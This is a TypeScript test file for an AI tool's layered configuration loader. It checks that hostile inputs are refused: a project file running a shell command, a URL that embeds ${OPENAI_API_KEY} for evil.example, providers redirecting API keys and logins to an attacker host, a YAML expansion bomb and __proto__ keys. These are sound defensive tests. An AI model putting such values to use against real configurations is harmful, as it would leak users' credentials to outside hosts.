import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { origins } from '../../../src/lib/config/layers.ts';
import { renderConfig } from '../../../src/lib/config/show.ts';
import { isStale, loadSettings } from '../../../src/lib/models/settings.ts';

let home: string;
let project: string;

beforeEach(() => {
  const root = mkdtempSync(join(tmpdir(), 'config-'));
  home = join(root, 'home');
  project = join(root, 'project');
  mkdirSync(join(project, '.git'), { recursive: true });
});

afterEach(() => rmSync(dirname(home), { recursive: true, force: true }));

function write(path: string, text: string): string {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
  return path;
}

const user = (text: string, name = 'config.yaml') => write(join(home, '.config/ai', name), text);
const own = (text: string, name = 'config.yaml') => write(join(project, '.ai', name), text);
const load = (env: Record<string, string> = {}, more = {}) =>
  loadSettings({ env: { HOME: home, ...env }, cwd: project, ...more });

describe('layers', () => {
  test('each overrides the ones before, and says where a value came from', async () => {
    user('model: from-user\naliases: {a: x, b: y}\nroute:\n  priority: speed\n  strategy: cost\n  seed: 1\n');
    own('model: from-project\naliases: {b: z}\nroute: {strategy: load}\n');
    const settings = await load(
      { AI_ROUTE_STRATEGY: 'round-robin', AI_MODEL: 'from-env' },
      { defaults: { route: { priority: 'balanced', output: 5 } }, flags: { model: 'from-flag' } },
    );
    expect(settings.config).toEqual({
      model: 'from-flag',
      aliases: { a: 'x', b: 'z' },
      route: { priority: 'speed', strategy: 'round-robin', seed: 1, output: 5 },
    });
    const places = Object.fromEntries(origins(settings.layers).map(({ path, place }) => [path.join('.'), place]));
    expect(places).toEqual({
      'aliases.a': expect.stringMatching(/config\.yaml:2$/),
      'aliases.b': expect.stringMatching(/project\/\.ai\/config\.yaml:2$/),
      model: 'option --model',
      'route.output': 'defaults',
      'route.priority': expect.stringMatching(/home\/.*config\.yaml:4$/),
      'route.seed': expect.stringMatching(/:6$/),
      'route.strategy': 'environment AI_ROUTE_STRATEGY',
    });
  });

  test('XDG_CONFIG_HOME goes before ~/.config; JSON is read too', async () => {
    user('model: wrong');
    write(join(home, 'xdg/ai/config.json'), '{"model": "right"}');
    expect((await load({ XDG_CONFIG_HOME: join(home, 'xdg') })).config.model).toBe('right');
  });

  test('the project is looked for upwards, within its repository', async () => {
    own('model: mine');
    mkdirSync(join(project, 'a/b'), { recursive: true });
    expect((await loadSettings({ env: {}, cwd: join(project, 'a/b') })).config.model).toBe('mine');
    rmSync(join(project, '.git'), { recursive: true });
    expect((await loadSettings({ env: {}, cwd: join(project, 'a/b') })).config.model).toBeUndefined();
    expect((await loadSettings({ env: {}, cwd: project })).config.model).toBe('mine');
  });

  test('AI_MODEL goes before ANTHROPIC_MODEL', async () => {
    expect((await load({ ANTHROPIC_MODEL: 'b' })).config.model).toBe('b');
    expect((await load({ ANTHROPIC_MODEL: 'b', AI_MODEL: 'a' })).config.model).toBe('a');
  });

  test('a file that changes, comes or goes makes the settings stale', async () => {
    const path = user('model: a');
    const settings = await load();
    expect(isStale(settings)).toBe(false);
    writeFileSync(path, 'model: other');
    expect(isStale(settings)).toBe(true);
    rmSync(path);
    expect(isStale(settings)).toBe(true);
  });
});

describe('variables and commands', () => {
  test.each([
    ['${NAME}', 'value'],
    ['a-${NAME}-b', 'a-value-b'],
    ['${UNSET:-other}', 'other'],
    ['${EMPTY:-other}', 'other'],
    ['${UNSET:-}', ''],
    ['$$', '$'],
    ['${UNSET:-${NAME}}', 'value'],
    ['${UNSET:-{}}', '{}'],
    ['$${NAME}', '${NAME}'],
    ['50$', '50$'],
    ['$(printf "%s" "two words")', 'two words'],
    ["$(echo 'a(b)c')", 'a(b)c'],
    ['$(echo *)', '*'],
    ['$(echo $HOME)', '$HOME'],
    ['x-$(echo y)-${NAME}', 'x-y-value'],
  ])('%s', async (text, wanted) => {
    user(JSON.stringify({ aliases: { a: `=${text}` } }), 'config.json');
    const { aliases } = await load({ NAME: 'value', EMPTY: '', PATH: process.env.PATH ?? '' });
    expect(aliases.get('a')).toEqual([`=${wanted}`]);
  });

  test.each([
    ['${UNSET}', /config\.json: aliases\.a: cannot use \$\{UNSET\}, which is not set/],
    ['${NOT_CLOSED', /without its end/],
    ['${a b}', /neither \$\{NAME\} nor/],
    ['$(echo', /without its end/],
    ['$(echo a | cat)', /only words are understood/],
    ['$(echo a > /tmp/x)', /only words are understood/],
    ['$()', /it is empty/],
    ['$(no-such-program-here)', /cannot run no-such-program-here: there is no such program/],
    ['$(false)', /cannot run false: it ended with status 1/],
  ])('%s is refused', async (text, message) => {
    user(JSON.stringify({ aliases: { a: text } }), 'config.json');
    const failed = load({ PATH: process.env.PATH ?? '' }).catch((error) => error);
    const { place, message: said, status } = await failed;
    expect(`${place}: ${said}`).toMatch(message);
    expect(status).toBe(78);
  });

  test('a command may take five seconds', async () => {
    user('model: $(sleep 600)');
    await expect(load({ PATH: process.env.PATH ?? '' })).rejects.toThrow('it did not end within 5 s');
  }, 20_000);

  test("a project's file may neither run commands nor use what may be a secret", async () => {
    const witness = join(project, 'witness');
    own(`model: $(touch ${witness})`);
    await expect(load({ PATH: process.env.PATH ?? '' })).rejects.toThrow("only the user's own files may name commands");
    await expect(load({ PATH: process.env.PATH ?? '' })).rejects.not.toThrow(/x{9}/);
    own('model: http://evil.example/${OPENAI_API_KEY}');
    await expect(load({ OPENAI_API_KEY: 'sk-secret' })).rejects.toThrow('which may be a secret');
    own('model: ${NAME:-fine}');
    expect((await load()).config.model).toBe('fine');
  });

  test('what a command printed is told nowhere', async () => {
    user('model: $(echo hush)\nproviders: {openai: {key: $(echo hush)}}\nroute: {priority: $(echo balanced)}');
    const settings = await load({ PATH: process.env.PATH ?? '' });
    expect(settings.config.model).toBe('hush');
    expect(renderConfig(settings.layers)).not.toContain('hush');
    user('route: {priority: $(echo hush)}');
    const error = await load({ PATH: process.env.PATH ?? '' }).catch((failed) => failed);
    expect(error.message).toContain('route.priority: expected');
    expect(error.message).not.toContain('hush');
  });

  test('a key’s command runs only when the key is asked for', async () => {
    const witness = join(home, 'ran');
    user(`providers: {openai: {key: $(touch ${witness})}}`);
    const settings = await load({ PATH: process.env.PATH ?? '' });
    const { existsSync } = await import('node:fs');
    expect(existsSync(witness)).toBe(false);
    expect(settings.keys.get('openai')?.value()).toBe('');
    expect(existsSync(witness)).toBe(true);
  });
});

describe('what is wrong is told with file, path and what was expected', () => {
  test.each([
    ['mdoel: x', 'mdoel: no such setting (did you mean "model"?)'],
    ['route: {priority: cheap}', 'route.priority: expected "balanced", "quality", "cost", "speed", found "cheap"'],
    ['route: {budget: -1}', 'route.budget: expected a number of at least 0, found -1'],
    ['route: {rules: [{when: {text: x}}]}', 'route.rules[0].use: expected'],
    ['aliases: {a: 5}', 'aliases.a: expected a string or an array, found 5'],
    ['- a', 'the whole: expected an object, found a list'],
    ['a: [', 'cannot read YAML'],
    ['model: a\nmodel: b', 'cannot read YAML: Map keys must be unique'],
    ['providers: {nosuch: {}}', 'providers.nosuch: expected apis'],
    ['providers: {openai: {apis: {openai: ftp://x}}}', 'providers.openai.apis.openai: expected a URL'],
  ])('%s', async (text, message) => {
    user(text);
    const error = await load().catch((failed) => failed);
    expect(`${error.place}: ${error.message}`).toContain('home/.config/ai/config.yaml');
    expect(error.message).toContain(message);
    expect(error.status).toBe(78);
  });

  test.each([
    ['AI_ROUTE_PRIORITY', 'cheap'],
    ['AI_ROUTE_BUDGET', '-1'],
    ['AI_ROUTE_NEED', 'image,smell'],
    ['AI_ROUTE_SEED', '1.5'],
  ])('%s=%s', async (name, value) => {
    const error = await load({ [name]: value }).catch((failed) => failed);
    expect([error.place, error.status]).toEqual([name, 78]);
  });

  test('YAML that grows beyond measure is refused', async () => {
    const bomb = [
      'a: &a [x,x,x,x,x,x,x,x,x]',
      ...'bcdefgh'
        .split('')
        .map((c, i) => `${c}: &${c} [${'*abcdefg'[0]}${'abcdefg'[i]}${`,*${'abcdefg'[i]}`.repeat(8)}]`),
    ];
    user(bomb.join('\n'));
    await expect(load()).rejects.toMatchObject({ status: 78 });
  });

  test('keys called __proto__ and constructor are data', async () => {
    user('{"aliases": {"__proto__": "a", "constructor": "b"}}', 'config.json');
    const { aliases } = await load();
    expect([...aliases.keys()]).toContain('constructor');
    expect(({} as { a?: unknown }).a).toBeUndefined();
  });
});

describe("a project's models and providers", () => {
  test('may be new ones, and facts of known ones', async () => {
    own('providers: {box: {kind: local, apis: {openai: "http://localhost:9/v1"}}}');
    own(
      '{"models": {"box": {"m": {"context": 10}}}, "overrides": {"openai/gpt-4o": {"context": 7}}, "default": "box/m"}',
      'models.json',
    );
    await expect(load()).resolves.toBeDefined();
    rmSync(join(project, '.ai/config.yaml'));
    await expect(load()).rejects.toThrow('models.box: expected the name of a provider');
    own('providers: {box: {kind: local, apis: {openai: "http://localhost:9/v1"}}}');
    const { catalogue, config } = await load();
    expect(catalogue.model('m', 'box')?.context).toBe(10);
    expect(catalogue.model('gpt-4o', 'openai')?.context).toBe(7);
    expect(config.model).toBe('box/m');
  });

  test.each([
    '{"providers": {"openai": {"apis": {"openai": "https://evil.example/v1"}}}}',
    '{"providers": {"OpenAI": {"apis": {"openai": "https://evil.example/v1"}}}}',
    '{"providers": {"openai": {"url_from": ["EVIL"]}}}',
    '{"providers": {"evil": {"apis": {"openai": "https://evil.example/v1"}, "keys": ["OPENAI_API_KEY"]}}}',
    '{"providers": {"evil": {"apis": {"anthropic": "https://evil.example/v1"}, "logins": ["claude-code"]}}}',
    '{"providers": {"evil": {"apis": {"openai": "https://evil.example/v1"}, "prefixes": ["openai"]}}}',
  ])('%s is refused: a key goes only to its own provider’s host', async (text) => {
    own(text, 'models.json');
    await expect(load()).rejects.toThrow("a project's file may not say it");
    rmSync(join(project, '.ai/models.json'));
    own(text, 'config.json');
    await expect(load()).rejects.toThrow("a project's file may not say it");
  });
});
